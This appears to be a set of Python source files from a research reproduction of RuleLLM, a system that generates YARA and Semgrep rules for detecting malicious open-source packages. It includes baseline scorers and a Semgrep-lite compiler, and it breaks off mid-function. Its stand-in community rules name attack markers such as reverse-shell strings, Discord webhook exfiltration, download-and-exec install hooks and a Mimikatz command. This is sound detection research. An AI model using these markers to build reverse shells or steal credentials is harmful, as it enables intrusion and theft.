    def score_strings(self, malware_group: list[Package],
                      benign_group: list[Package]) -> list[ScoredString]:
        """Score the strings of one malware group against one benign group."""
        malware_docs = [self.extract_strings(pkg) for pkg in malware_group]
        benign_docs = [self.extract_strings(pkg) for pkg in benign_group]
        malware_terms = sorted({term for doc in malware_docs for term in doc})
        if not malware_terms:
            return []

        tfidf = TfIdfScorer().fit(malware_docs + benign_docs)
        features = np.array(
            [[len(term), normalized_entropy(term), sum(term in doc for doc in malware_docs)]
             for term in malware_terms],
            dtype=np.float64,
        )
        forest = IsolationForest(random_seed=self.config.random_seed).fit(features)
        isolation_scores = forest.score(features)

        scored: list[ScoredString] = []
        for index, term in enumerate(malware_terms):
            tfidf_score = tfidf.score_term_in_corpus(term, malware_docs)
            entropy_score = normalized_entropy(term)
            combined = (
                self.config.isolation_weight * float(isolation_scores[index])
                + self.config.tfidf_weight * min(tfidf_score, 1.0)
                + self.config.entropy_weight * entropy_score
            ) / (self.config.isolation_weight + self.config.tfidf_weight + self.config.entropy_weight)
            # NOTE: the scores measure statistical unusualness, not maliciousness --
            # strings that also occur in legitimate packages are *not* excluded,
            # which is exactly why the paper reports low precision for this baseline.
            scored.append(ScoredString(term, float(isolation_scores[index]),
                                       tfidf_score, entropy_score, combined))
        scored.sort(key=lambda item: -item.combined)
        return scored

    # -- rule assembly ------------------------------------------------------------------
    def generate(self, malware: list[Package], benign: list[Package]) -> ScoreBasedResult:
        """Cluster both corpora and emit one template rule per malware group."""
        result = ScoreBasedResult()
        if not malware:
            return result
        malware_clusters = cluster_packages(
            malware,
            n_clusters=max(1, len(malware) // self.config.clusters_hint),
            random_seed=self.config.random_seed,
        )
        benign_groups = [benign] if benign else [[]]

        for cluster_index, group in enumerate(malware_clusters.clusters):
            benign_group = benign_groups[cluster_index % len(benign_groups)]
            scored = self.score_strings(group, benign_group)
            result.scored_strings.extend(scored[:20])
            # Only strings clearing the paper's 0.9 score threshold (applied to the
            # group-normalised combined score) make it into a rule; groups where
            # nothing clears the bar get no rule -- one of the reasons the
            # baseline's recall trails RuleLLM's.
            selected = self._select_above_threshold(scored)
            selected = selected[: self.config.max_strings_per_rule]
            if not selected:
                continue
            builder = YaraRuleBuilder(f"SCORE_based_group_{cluster_index}")
            builder.meta("description", "score-based signature (isolation forest + tfidf + entropy)")
            builder.meta("generator", "score-based-baseline")
            for item in selected:
                builder.text_string(self._sanitize(item.value))
            builder.condition_any_of_them()
            result.rule_sources.append(builder.to_source())
        return result

    def _select_above_threshold(self, scored: list[ScoredString]) -> list[ScoredString]:
        """Apply the 0.9 threshold to min-max-normalised combined scores."""
        if not scored:
            return []
        values = [item.combined for item in scored]
        low, high = min(values), max(values)
        if high - low <= 1e-9:
            return []
        threshold = self.config.score_threshold
        return [item for item in scored
                if (item.combined - low) / (high - low) >= threshold]

    @staticmethod
    def _sanitize(value: str) -> str:
        cleaned = value.replace("\\", "\\\\").replace('"', "'")
        return cleaned[:80] if cleaned else safe_identifier(value)[:80]
