"""Minimal isolation forest (scikit-learn substitute).

The score-based baseline (paper Section V-A) weighs candidate strings with an
isolation-forest anomaly score.  This is a standard isolation forest over
small numeric feature vectors: random axis-aligned splits, path length
averaged over trees, normalised with the usual ``c(n)`` term.
"""

from __future__ import annotations

import math
from dataclasses import dataclass

import numpy as np


def _average_path_length(n: int) -> float:
    """Expected path length of an unsuccessful BST search among ``n`` points."""
    if n <= 1:
        return 0.0
    if n == 2:
        return 1.0
    harmonic = math.log(n - 1) + 0.5772156649
    return 2.0 * harmonic - 2.0 * (n - 1) / n


@dataclass
class _Node:
    feature: int = -1
    threshold: float = 0.0
    left: "_Node | None" = None
    right: "_Node | None" = None
    size: int = 0

    @property
    def is_leaf(self) -> bool:
        return self.left is None and self.right is None


class IsolationForest:
    """Isolation forest returning anomaly scores in [0, 1] (1 = most anomalous)."""

    def __init__(self, n_trees: int = 64, sample_size: int = 128, random_seed: int = 42) -> None:
        if n_trees < 1:
            raise ValueError("n_trees must be >= 1")
        self.n_trees = n_trees
        self.sample_size = sample_size
        self.random_seed = random_seed
        self._trees: list[_Node] = []
        self._sample_used = 0

    # -- fitting -------------------------------------------------------------------
    def fit(self, data: np.ndarray) -> "IsolationForest":
        data = np.asarray(data, dtype=np.float64)
        if data.ndim == 1:
            data = data.reshape(-1, 1)
        if data.shape[0] == 0:
            raise ValueError("cannot fit an isolation forest on empty data")
        rng = np.random.default_rng(self.random_seed)
        sample = min(self.sample_size, data.shape[0])
        self._sample_used = sample
        height_limit = int(math.ceil(math.log2(max(sample, 2))))
        self._trees = []
        for _ in range(self.n_trees):
            indices = rng.choice(data.shape[0], size=sample, replace=False)
            self._trees.append(self._build(data[indices], 0, height_limit, rng))
        return self

    def _build(self, data: np.ndarray, depth: int, limit: int, rng: np.random.Generator) -> _Node:
        node = _Node(size=data.shape[0])
        if depth >= limit or data.shape[0] <= 1:
            return node
        spans = data.max(axis=0) - data.min(axis=0)
        candidates = np.nonzero(spans > 0)[0]
        if candidates.size == 0:
            return node
        feature = int(rng.choice(candidates))
        low, high = data[:, feature].min(), data[:, feature].max()
        threshold = float(rng.uniform(low, high))
        mask = data[:, feature] < threshold
        node.feature = feature
        node.threshold = threshold
        node.left = self._build(data[mask], depth + 1, limit, rng)
        node.right = self._build(data[~mask], depth + 1, limit, rng)
        return node

    # -- scoring --------------------------------------------------------------------
    def _path_length(self, point: np.ndarray, node: _Node, depth: int) -> float:
        if node.is_leaf:
            return depth + _average_path_length(node.size)
        if point[node.feature] < node.threshold:
            return self._path_length(point, node.left, depth + 1)
        return self._path_length(point, node.right, depth + 1)

    def score(self, data: np.ndarray) -> np.ndarray:
        """Anomaly score per row; higher means more isolated (more unusual)."""
        if not self._trees:
            raise RuntimeError("IsolationForest.score called before fit")
        data = np.asarray(data, dtype=np.float64)
        if data.ndim == 1:
            data = data.reshape(-1, 1)
        expected = _average_path_length(self._sample_used)
        scores = np.empty(data.shape[0])
        for index, point in enumerate(data):
            mean_path = np.mean([self._path_length(point, tree, 0) for tree in self._trees])
            scores[index] = 2.0 ** (-mean_path / max(expected, 1e-9))
        return scores
