"""Baselines the paper compares RuleLLM against (Section V-A, Table VII).

* **Existing rules from SOTA tools** -- stand-in corpora for the community
  YARA rule set (4,574 rules, 46 OSS-related) and the community Semgrep rule
  set (2,841 rules, 334 OSS-related).  Only the OSS-relevant fraction can
  ever fire on a Python package; a handful of overly generic rules provide
  the false positives those scanners are known for.
* **Score-based approach** -- an adaptation of signature-generation work to
  OSS malware: strings are scored with an isolation forest, information
  entropy and TF-IDF (weights 1.2 / 0.8 / 1.0), and high-scoring strings are
  assembled into YARA rules through a template.
* **Diverse LLMs** -- obtained by running the RuleLLM pipeline with different
  model profiles (see :mod:`repro.llm.profiles`), not re-implemented here.
"""

from repro.baselines.community_rules import (
    CommunityRuleSet,
    build_semgrep_scanner,
    build_yara_scanner,
)
from repro.baselines.score_based import ScoreBasedConfig, ScoreBasedRuleGenerator
from repro.baselines.isolation_forest import IsolationForest
from repro.baselines.tfidf import TfIdfScorer
from repro.baselines.entropy import shannon_entropy, normalized_entropy

__all__ = [
    "CommunityRuleSet",
    "build_yara_scanner",
    "build_semgrep_scanner",
    "ScoreBasedConfig",
    "ScoreBasedRuleGenerator",
    "IsolationForest",
    "TfIdfScorer",
    "shannon_entropy",
    "normalized_entropy",
]
