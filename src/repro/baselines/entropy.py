"""Information-entropy scoring used by the score-based baseline."""

from __future__ import annotations

import math
from collections import Counter


def shannon_entropy(text: str) -> float:
    """Shannon entropy of the character distribution of ``text`` (bits/char)."""
    if not text:
        return 0.0
    counts = Counter(text)
    total = len(text)
    entropy = 0.0
    for count in counts.values():
        probability = count / total
        entropy -= probability * math.log2(probability)
    return entropy


def normalized_entropy(text: str) -> float:
    """Entropy scaled to [0, 1] by the maximum possible for the alphabet used."""
    if not text:
        return 0.0
    alphabet = len(set(text))
    if alphabet <= 1:
        return 0.0
    return shannon_entropy(text) / math.log2(alphabet)
