"""TF-IDF scoring over package "strings" for the score-based baseline."""

from __future__ import annotations

import math
from collections import Counter
from typing import Iterable, Sequence


class TfIdfScorer:
    """Classic TF-IDF over documents that are bags of extracted strings."""

    def __init__(self) -> None:
        self._document_frequency: Counter[str] = Counter()
        self._documents = 0

    def fit(self, documents: Sequence[Iterable[str]]) -> "TfIdfScorer":
        self._document_frequency = Counter()
        self._documents = len(documents)
        for document in documents:
            for term in set(document):
                self._document_frequency[term] += 1
        return self

    @property
    def vocabulary_size(self) -> int:
        return len(self._document_frequency)

    def idf(self, term: str) -> float:
        if self._documents == 0:
            return 0.0
        frequency = self._document_frequency.get(term, 0)
        return math.log((1 + self._documents) / (1 + frequency)) + 1.0

    def score_document(self, document: Iterable[str]) -> dict[str, float]:
        """TF-IDF score of every term in one document."""
        terms = list(document)
        if not terms:
            return {}
        counts = Counter(terms)
        total = len(terms)
        return {term: (count / total) * self.idf(term) for term, count in counts.items()}

    def score_term_in_corpus(self, term: str, documents: Sequence[Iterable[str]]) -> float:
        """Average TF-IDF of ``term`` across the documents that contain it."""
        scores = []
        for document in documents:
            document_scores = self.score_document(document)
            if term in document_scores:
                scores.append(document_scores[term])
        return sum(scores) / len(scores) if scores else 0.0
