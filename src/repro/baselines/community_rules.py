"""Stand-in corpora for the community YARA / Semgrep scanners.

The paper's first baseline runs the existing community rule sets against the
corpus: 4,574 YARA rules (46 of them OSS-related) and 2,841 Semgrep rules
(334 OSS-related).  The community sets themselves cannot be redistributed
here, so we build *behaviourally equivalent stand-ins*:

* the bulk of each set targets domains that never occur in a Python package
  (PE headers, APT infrastructure, e-mail, mobile) and therefore never fires
  -- we materialise a representative sample of these and carry the nominal
  totals for Table XI;
* a handful of overly generic rules (base64 blobs, ``eval`` use, embedded
  URLs) fire on both malware and legitimate packages -- the source of the
  scanners' low precision in Table VIII;
* the small OSS-specific portion covers a few well-known install-time attack
  idioms, giving the scanners their modest recall.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.semgrepx import CompiledSemgrepRuleSet
from repro.semgrepx.compiler import compile_rules as compile_semgrep_rules
from repro.semgrepx.rule import SemgrepRule
from repro.yarax import CompiledRuleSet, compile_source

#: Nominal sizes of the community corpora reported by the paper.
COMMUNITY_YARA_TOTAL = 4574
COMMUNITY_YARA_OSS = 46
COMMUNITY_SEMGREP_TOTAL = 2841
COMMUNITY_SEMGREP_OSS = 334


@dataclass
class CommunityRuleSet:
    """A community scanner: compiled effective rules plus nominal inventory counts."""

    name: str
    total_rules: int
    oss_rules: int
    yara: CompiledRuleSet | None = None
    semgrep: CompiledSemgrepRuleSet | None = None
    materialized: int = 0
    notes: list[str] = field(default_factory=list)


# -- YARA scanner stand-in -----------------------------------------------------------

_YARA_GENERIC_RULES = """
rule community_base64_blob
{
    meta:
        description = "Base64 encoded blob (community generic rule)"
    strings:
        $a = /[A-Za-z0-9+\\/]{60,}={0,2}/
    condition:
        $a
}

rule community_eval_usage
{
    meta:
        description = "Combined use of eval and exec on dynamic content"
    strings:
        $a = "eval("
        $b = "exec("
    condition:
        all of them
}

rule community_embedded_url
{
    meta:
        description = "Embedded HTTP URL with executable-looking path"
    strings:
        $a = /https?:\\/\\/[^"\\s]{8,80}\\.(exe|sh|py)/
    condition:
        $a
}

rule community_powershell_encoded
{
    meta:
        description = "Encoded PowerShell command line"
    strings:
        $a = "powershell -enc"
        $b = "FromBase64String"
    condition:
        any of them
}
"""

_YARA_OSS_RULES = """
rule community_oss_setup_install_hook
{
    meta:
        description = "setuptools install command override running extra code"
    strings:
        $a = "from setuptools.command.install import install"
        $b = "cmdclass"
    condition:
        $a and $b
}

rule community_oss_reverse_shell
{
    meta:
        description = "Python reverse shell one-liner"
    strings:
        $a = "os.dup2(s.fileno()"
        $b = "/bin/sh"
    condition:
        all of them
}

rule community_oss_discord_webhook
{
    meta:
        description = "Discord webhook URL in source"
    strings:
        $a = "discord.com/api/webhooks"
    condition:
        $a
}

rule community_oss_pip_download_exec
{
    meta:
        description = "Downloading and executing code during pip install"
    strings:
        $a = "urllib.request.urlopen"
        $b = "exec("
    condition:
        all of them
}

rule community_oss_crypto_clipper
{
    meta:
        description = "Cryptocurrency clipboard clipper markers"
    strings:
        $a = "clipboard_get"
        $b = /bc1q[0-9a-z]{20,}/
    condition:
        any of them
}
"""

_YARA_IRRELEVANT_TEMPLATE = """
rule community_irrelevant_{index}
{{
    meta:
        description = "{description}"
    strings:
        $a = "{marker}"
    condition:
        $a
}}
"""

_IRRELEVANT_MARKERS = (
    ("PE executable packed with UPX", "UPX0\x00section"),
    ("Mimikatz credential dumper", "sekurlsa::logonpasswords"),
    ("Cobalt Strike beacon config", "%%IMPORT%%beacon.dll"),
    ("Emotet e-mail lure macro", "AutoOpen_EmotetLoader"),
    ("Android banking trojan manifest", "android.permission.BIND_ACCESSIBILITY"),
    ("Office exploit CVE-2017-11882", "0002CE02-0000-0000-C000"),
    ("Linux rootkit LD_PRELOAD hook", "ld.so.preload.rootkit"),
    ("APT infrastructure domain", "update.windows-telemetry.live"),
    ("Ransomware note marker", "YOUR FILES HAVE BEEN ENCRYPTED!!!"),
    ("IoT botnet telnet scanner", "/bin/busybox MIRAI"),
)


def build_yara_scanner(materialize_irrelevant: int = 10) -> CommunityRuleSet:
    """Build the community YARA scanner stand-in."""
    sources = [_YARA_GENERIC_RULES, _YARA_OSS_RULES]
    for index in range(materialize_irrelevant):
        description, marker = _IRRELEVANT_MARKERS[index % len(_IRRELEVANT_MARKERS)]
        sources.append(
            _YARA_IRRELEVANT_TEMPLATE.format(
                index=index, description=description, marker=marker + str(index)
            )
        )
    compiled = compile_source("\n".join(sources))
    return CommunityRuleSet(
        name="Yara scanner",
        total_rules=COMMUNITY_YARA_TOTAL,
        oss_rules=COMMUNITY_YARA_OSS,
        yara=compiled,
        materialized=len(compiled),
        notes=["stand-in corpus: generic + OSS-specific + representative irrelevant rules"],
    )


# -- Semgrep scanner stand-in -----------------------------------------------------------

def _semgrep_rule(rule_id: str, message: str, **kwargs) -> SemgrepRule:
    rule = SemgrepRule(id=rule_id, message=message, **kwargs)
    rule.validate()
    return rule


def build_semgrep_scanner(materialize_irrelevant: int = 10) -> CommunityRuleSet:
    """Build the community Semgrep scanner stand-in."""
    rules: list[SemgrepRule] = [
        # OSS-security rules (the registry's python security packs)
        _semgrep_rule("python.lang.security.eval-use", "Detected eval on dynamic data",
                      pattern="eval($X)", severity="WARNING"),
        _semgrep_rule("python.lang.security.exec-use", "Detected exec on dynamic data",
                      pattern="exec($X)", severity="WARNING"),
        _semgrep_rule("python.lang.security.subprocess-shell-true",
                      "subprocess call with shell=True",
                      pattern="subprocess.run($CMD, shell=True, ...)", severity="WARNING"),
        _semgrep_rule("python.lang.security.os-system-injection",
                      "os.system call with dynamic command",
                      pattern="os.system($CMD)", severity="WARNING"),
        _semgrep_rule("python.requests.security.disabled-cert-validation",
                      "requests call with certificate validation disabled",
                      pattern="requests.post($URL, verify=False, ...)", severity="WARNING"),
        _semgrep_rule("supply-chain.setUp-install-cmdclass",
                      "setup.py overrides the install command",
                      pattern="class $C(install): ...", severity="ERROR"),
        _semgrep_rule("supply-chain.remote-code-during-install",
                      "Code downloaded and executed during installation",
                      pattern="exec(urllib.request.urlopen($URL, ...).read())", severity="ERROR"),
        _semgrep_rule("python.lang.security.marshal-loads", "marshal.loads on untrusted data",
                      pattern="marshal.loads($X)", severity="WARNING"),
        _semgrep_rule("python.cryptography.insecure-hash", "Use of MD5 for security purposes",
                      pattern="hashlib.md5($X)", severity="INFO"),
        _semgrep_rule("python.lang.security.tempfile-insecure", "Insecure temporary file path",
                      pattern_regex=r"/tmp/[A-Za-z0-9_.]+", severity="INFO"),
    ]
    # representative never-firing rules from other domains (cloud, JS, mobile)
    irrelevant_patterns = (
        ("javascript.dom-xss.innerhtml", "innerHTML assignment from user data", "document.write($X)"),
        ("go.aws.hardcoded-secret", "Hard-coded AWS secret in Go source", "aws.NewStaticCredentials($A, $B, $C)"),
        ("terraform.public-s3-bucket", "Public S3 bucket ACL", "resource_aws_s3_bucket($X)"),
        ("java.spring.csrf-disabled", "Spring CSRF protection disabled", "http.csrf().disable()"),
        ("ruby.rails.mass-assignment", "Rails mass assignment", "params.permit($X)"),
    )
    for index in range(materialize_irrelevant):
        rule_id, message, pattern = irrelevant_patterns[index % len(irrelevant_patterns)]
        rules.append(_semgrep_rule(f"{rule_id}-{index}", message, pattern=pattern))
    compiled = compile_semgrep_rules(rules)
    return CommunityRuleSet(
        name="Semgrep scanner",
        total_rules=COMMUNITY_SEMGREP_TOTAL,
        oss_rules=COMMUNITY_SEMGREP_OSS,
        semgrep=compiled,
        materialized=len(compiled),
        notes=["stand-in corpus: python security pack subset + representative irrelevant rules"],
    )
