"""Shared rule-taxonomy vocabulary (paper Table XII).

The paper groups generated rules into 11 categories and 38 subcategories.
The same vocabulary is used in three places in this reproduction:

* the synthetic corpus injects behaviours tagged with these subcategories,
* the rule-taxonomy classifier (:mod:`repro.core.taxonomy`) assigns generated
  rules to them, and
* the Table XII / Figure 11 experiments aggregate over them.

Keeping the constants in one top-level module avoids circular imports between
the corpus substrate and the core pipeline.
"""

from __future__ import annotations

from dataclasses import dataclass

# -- category names (Table XII, left column) --------------------------------
METADATA_RELATED = "Metadata Related"
MALICIOUS_BEHAVIOR = "Malicious Behavior"
DEPENDENCY_LIBRARY = "Dependency Library"
SETUP_CODE = "Setup Code"
NETWORK_RELATED = "Network Related"
OBFUSCATION = "Obfuscation & Anti-Detection"
DATA_EXFILTRATION = "Data Exfiltration"
CODE_EXECUTION = "Code Execution"
APPLICATION = "Application"
MALWARE_FAMILY = "Malware Family"
OTHER = "Other Rules"

#: Category display order matches the paper's numbering 0-10.
CATEGORIES: tuple[str, ...] = (
    METADATA_RELATED,
    MALICIOUS_BEHAVIOR,
    DEPENDENCY_LIBRARY,
    SETUP_CODE,
    NETWORK_RELATED,
    OBFUSCATION,
    DATA_EXFILTRATION,
    CODE_EXECUTION,
    APPLICATION,
    MALWARE_FAMILY,
    OTHER,
)

#: Subcategories per category (Table XII, middle column).
SUBCATEGORIES: dict[str, tuple[str, ...]] = {
    METADATA_RELATED: (
        "Package Metadata Manipulation",
        "Version Number Deception",
        "Fake Dependency Metadata",
        "Author Information Spoofing",
    ),
    MALICIOUS_BEHAVIOR: (
        "Privilege Escalation",
        "Process Manipulation",
        "System Configuration Changes",
        "Persistence Mechanisms",
    ),
    DEPENDENCY_LIBRARY: (
        "System Library Abuse",
        "Network Library Misuse",
        "Crypto Library Exploitation",
        "UI/Graphics Library Abuse",
    ),
    SETUP_CODE: (
        "Malicious Setup Scripts",
        "Build Process Manipulation",
        "Installation Hook Abuse",
        "Configuration Tampering",
    ),
    NETWORK_RELATED: (
        "C2 Communication",
        "Data Exfiltration Channels",
        "Malicious Downloads",
        "DNS/Protocol Abuse",
    ),
    OBFUSCATION: (
        "Code Obfuscation",
        "Anti-Analysis Techniques",
        "Sandbox Evasion",
        "String/Pattern Hiding",
    ),
    DATA_EXFILTRATION: (
        "Credential Theft",
        "Environment Data Stealing",
        "Configuration File Extraction",
        "Sensitive Data Harvesting",
    ),
    CODE_EXECUTION: (
        "Shell Command Execution",
        "Script Injection",
        "Process Creation",
    ),
    APPLICATION: (
        "Messaging Platform Abuse",
        "Social Media API Exploitation",
        "Cloud Service Misuse",
        "Development Tool Abuse",
    ),
    MALWARE_FAMILY: (
        "Known Trojan Families",
        "Backdoor Families",
    ),
    OTHER: (
        "Unknown or Undetermined",
    ),
}

#: Rule counts per subcategory reported in the paper's Table XII.  Used by the
#: Table XII experiment for side-by-side comparison and by the corpus
#: generator as relative behaviour weights.
PAPER_TABLE_XII_COUNTS: dict[str, dict[str, int]] = {
    METADATA_RELATED: {
        "Package Metadata Manipulation": 92,
        "Version Number Deception": 17,
        "Fake Dependency Metadata": 18,
        "Author Information Spoofing": 29,
    },
    MALICIOUS_BEHAVIOR: {
        "Privilege Escalation": 21,
        "Process Manipulation": 25,
        "System Configuration Changes": 70,
        "Persistence Mechanisms": 87,
    },
    DEPENDENCY_LIBRARY: {
        "System Library Abuse": 25,
        "Network Library Misuse": 43,
        "Crypto Library Exploitation": 7,
        "UI/Graphics Library Abuse": 8,
    },
    SETUP_CODE: {
        "Malicious Setup Scripts": 56,
        "Build Process Manipulation": 11,
        "Installation Hook Abuse": 39,
        "Configuration Tampering": 28,
    },
    NETWORK_RELATED: {
        "C2 Communication": 66,
        "Data Exfiltration Channels": 51,
        "Malicious Downloads": 61,
        "DNS/Protocol Abuse": 15,
    },
    OBFUSCATION: {
        "Code Obfuscation": 72,
        "Anti-Analysis Techniques": 67,
        "Sandbox Evasion": 9,
        "String/Pattern Hiding": 35,
    },
    DATA_EXFILTRATION: {
        "Credential Theft": 8,
        "Environment Data Stealing": 31,
        "Configuration File Extraction": 2,
        "Sensitive Data Harvesting": 53,
    },
    CODE_EXECUTION: {
        "Shell Command Execution": 54,
        "Script Injection": 29,
        "Process Creation": 1,
    },
    APPLICATION: {
        "Messaging Platform Abuse": 35,
        "Social Media API Exploitation": 2,
        "Cloud Service Misuse": 18,
        "Development Tool Abuse": 5,
    },
    MALWARE_FAMILY: {
        "Known Trojan Families": 12,
        "Backdoor Families": 2,
    },
    OTHER: {
        "Unknown or Undetermined": 13,
    },
}


@dataclass(frozen=True)
class TaxonomyLabel:
    """A (category, subcategory) pair."""

    category: str
    subcategory: str

    def __post_init__(self) -> None:
        if self.category not in SUBCATEGORIES:
            raise ValueError(f"unknown category: {self.category!r}")
        if self.subcategory not in SUBCATEGORIES[self.category]:
            raise ValueError(
                f"unknown subcategory {self.subcategory!r} for category {self.category!r}"
            )

    @property
    def category_index(self) -> int:
        return CATEGORIES.index(self.category)


def all_subcategories() -> list[TaxonomyLabel]:
    """Return all 38 (category, subcategory) labels in paper order."""
    labels: list[TaxonomyLabel] = []
    for category in CATEGORIES:
        for subcategory in SUBCATEGORIES[category]:
            labels.append(TaxonomyLabel(category, subcategory))
    return labels


def category_of(subcategory: str) -> str:
    """Return the category owning ``subcategory`` (raises if unknown)."""
    for category, subs in SUBCATEGORIES.items():
        if subcategory in subs:
            return category
    raise KeyError(f"unknown subcategory: {subcategory!r}")


NUM_CATEGORIES = len(CATEGORIES)
NUM_SUBCATEGORIES = sum(len(subs) for subs in SUBCATEGORIES.values())
