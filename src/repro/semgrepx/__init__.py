"""Semgrep-lite engine (substrate for the paper's Semgrep dependency).

Implements the subset of Semgrep the pipeline needs:

* YAML rule files with ``id`` / ``languages`` / ``message`` / ``severity`` /
  ``metadata`` and the pattern operators ``pattern``, ``patterns`` (AND),
  ``pattern-either`` (OR), ``pattern-not`` and ``pattern-regex``
* a pattern language over Python source with metavariables (``$X``) and the
  ellipsis operator (``...``), matched structurally against the target's AST
* compile-or-error semantics so the alignment agent can react to rule
  defects, and package-level scanning for the evaluation

Public entry points: :func:`compile_yaml` / :func:`compile_rules` and the
returned :class:`~repro.semgrepx.compiler.CompiledSemgrepRuleSet`'s
``match`` / ``match_target``.
"""

from repro.semgrepx.errors import SemgrepError, SemgrepPatternError, SemgrepRuleError
from repro.semgrepx.rule import SemgrepRule, SemgrepRuleBuilder
from repro.semgrepx.loader import dump_rules_yaml, load_rules_yaml
from repro.semgrepx.pattern import Pattern
from repro.semgrepx.matcher import ScanTarget, SemgrepFinding
from repro.semgrepx.compiler import (
    CompiledSemgrepRule,
    CompiledSemgrepRuleSet,
    compile_rules,
    compile_yaml,
    try_compile,
)

__all__ = [
    "SemgrepError",
    "SemgrepRuleError",
    "SemgrepPatternError",
    "SemgrepRule",
    "SemgrepRuleBuilder",
    "load_rules_yaml",
    "dump_rules_yaml",
    "Pattern",
    "ScanTarget",
    "SemgrepFinding",
    "CompiledSemgrepRule",
    "CompiledSemgrepRuleSet",
    "compile_rules",
    "compile_yaml",
    "try_compile",
]
