"""Compilation and execution of Semgrep-lite rules.

``compile_yaml`` turns a YAML document into a
:class:`CompiledSemgrepRuleSet`; any schema or pattern defect raises a
Semgrep-style error.  ``try_compile`` is the agent-facing tool interface
(paper Figure 4): success returns the compiled set, failure returns the error
message text.
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field
from typing import Iterable, Sequence

from repro.semgrepx.errors import SemgrepPatternError, SemgrepRuleError
from repro.semgrepx.loader import load_rules_yaml
from repro.semgrepx.matcher import ScanTarget, SemgrepFinding
from repro.semgrepx.pattern import Pattern
from repro.semgrepx.rule import SemgrepRule


@dataclass
class CompiledSemgrepRule:
    """One rule with its patterns compiled for matching."""

    rule: SemgrepRule
    either_patterns: list[Pattern] = field(default_factory=list)
    all_patterns: list[Pattern] = field(default_factory=list)
    not_patterns: list[Pattern] = field(default_factory=list)
    regex: re.Pattern[str] | None = None
    _anchors: set[str] = field(default_factory=set)

    @property
    def id(self) -> str:
        return self.rule.id

    @property
    def anchors(self) -> set[str]:
        return self._anchors

    # -- matching -----------------------------------------------------------------
    def match_target(self, target: ScanTarget, max_findings: int = 50) -> list[SemgrepFinding]:
        """Return the findings of this rule against a scan target."""
        if self._anchors and not target.contains_any(self._anchors):
            return []
        findings: list[SemgrepFinding] = []
        for parsed in target.parsed_files:
            findings.extend(self._match_file(parsed.path, parsed.source, parsed.tree))
            if len(findings) >= max_findings:
                break
        return findings[:max_findings]

    def _match_file(self, path: str, source: str, tree) -> list[SemgrepFinding]:
        findings: list[SemgrepFinding] = []

        # pattern-not: if any negative pattern matches the file, suppress it
        for negative in self.not_patterns:
            if tree is not None and negative.matches(tree):
                return []

        if self.regex is not None:
            for found in self.regex.finditer(source):
                line = source.count("\n", 0, found.start()) + 1
                findings.append(self._finding(path, line))
                break  # one regex finding per file is enough for detection

        if tree is None:
            return findings

        # patterns (AND): every pattern must match somewhere in the file
        if self.all_patterns:
            all_results = [p.match_tree(tree, max_matches=5) for p in self.all_patterns]
            if all(all_results):
                first = all_results[0][0]
                findings.append(self._finding(path, first.line, first.bindings))

        # pattern / pattern-either (OR): any single match fires
        for pattern in self.either_patterns:
            results = pattern.match_tree(tree, max_matches=5)
            if results:
                findings.append(self._finding(path, results[0].line, results[0].bindings))

        return findings

    def _finding(self, path: str, line: int, bindings: dict[str, str] | None = None) -> SemgrepFinding:
        metavariables = tuple(sorted((bindings or {}).items()))
        return SemgrepFinding(
            rule_id=self.rule.id,
            path=path,
            line=line,
            message=self.rule.message,
            severity=self.rule.severity,
            metavariables=metavariables,
        )


@dataclass
class CompiledSemgrepRuleSet:
    """A collection of compiled rules scanned together."""

    rules: list[CompiledSemgrepRule] = field(default_factory=list)

    def __len__(self) -> int:
        return len(self.rules)

    def __iter__(self):
        return iter(self.rules)

    def rule_ids(self) -> list[str]:
        return [compiled.id for compiled in self.rules]

    def rule(self, rule_id: str) -> CompiledSemgrepRule | None:
        for compiled in self.rules:
            if compiled.id == rule_id:
                return compiled
        return None

    def match_target(self, target: ScanTarget) -> list[SemgrepFinding]:
        findings: list[SemgrepFinding] = []
        for compiled in self.rules:
            findings.extend(compiled.match_target(target))
        return findings

    def match_files(self, name: str, files: Iterable[tuple[str, str]]) -> list[SemgrepFinding]:
        return self.match_target(ScanTarget.from_files(name, files))

    def extend(self, other: "CompiledSemgrepRuleSet") -> "CompiledSemgrepRuleSet":
        merged = CompiledSemgrepRuleSet(list(self.rules))
        existing = set(merged.rule_ids())
        for compiled in other.rules:
            if compiled.id in existing:
                raise SemgrepRuleError("duplicate rule id", rule_id=compiled.id)
            merged.rules.append(compiled)
            existing.add(compiled.id)
        return merged


def compile_rule(rule: SemgrepRule) -> CompiledSemgrepRule:
    """Compile one validated rule into matchers."""
    rule.validate()
    compiled = CompiledSemgrepRule(rule=rule)
    try:
        if rule.pattern:
            compiled.either_patterns.append(Pattern(rule.pattern))
        for entry in rule.pattern_either:
            if not isinstance(entry, dict) or "pattern" not in entry:
                raise SemgrepRuleError(
                    "entries of 'pattern-either' must be mappings with a 'pattern' key",
                    rule_id=rule.id,
                )
            compiled.either_patterns.append(Pattern(entry["pattern"]))
        for entry in rule.patterns:
            if not isinstance(entry, dict):
                raise SemgrepRuleError(
                    "entries of 'patterns' must be mappings", rule_id=rule.id
                )
            if "pattern" in entry:
                compiled.all_patterns.append(Pattern(entry["pattern"]))
            elif "pattern-not" in entry:
                compiled.not_patterns.append(Pattern(entry["pattern-not"]))
            else:
                raise SemgrepRuleError(
                    "entries of 'patterns' must contain 'pattern' or 'pattern-not'",
                    rule_id=rule.id,
                )
        if rule.pattern_not:
            compiled.not_patterns.append(Pattern(rule.pattern_not))
    except SemgrepPatternError as exc:
        raise SemgrepPatternError(exc.reason, pattern=exc.pattern, rule_id=rule.id) from exc

    if rule.pattern_regex:
        try:
            compiled.regex = re.compile(rule.pattern_regex)
        except re.error as exc:
            raise SemgrepPatternError(
                f"invalid pattern-regex: {exc}", pattern=rule.pattern_regex, rule_id=rule.id
            ) from exc

    anchors: set[str] = set()
    for pattern in compiled.either_patterns + compiled.all_patterns:
        pattern_anchors = pattern.anchors()
        if not pattern_anchors:
            anchors = set()
            break
        anchors.update(pattern_anchors)
    compiled._anchors = anchors
    return compiled


def compile_rules(rules: Sequence[SemgrepRule]) -> CompiledSemgrepRuleSet:
    seen: set[str] = set()
    compiled_rules = []
    for rule in rules:
        if rule.id in seen:
            raise SemgrepRuleError("duplicate rule id", rule_id=rule.id)
        seen.add(rule.id)
        compiled_rules.append(compile_rule(rule))
    return CompiledSemgrepRuleSet(compiled_rules)


def compile_yaml(text: str) -> CompiledSemgrepRuleSet:
    """Parse and compile a Semgrep YAML document."""
    return compile_rules(load_rules_yaml(text))


def try_compile(text: str) -> tuple[CompiledSemgrepRuleSet | None, str | None]:
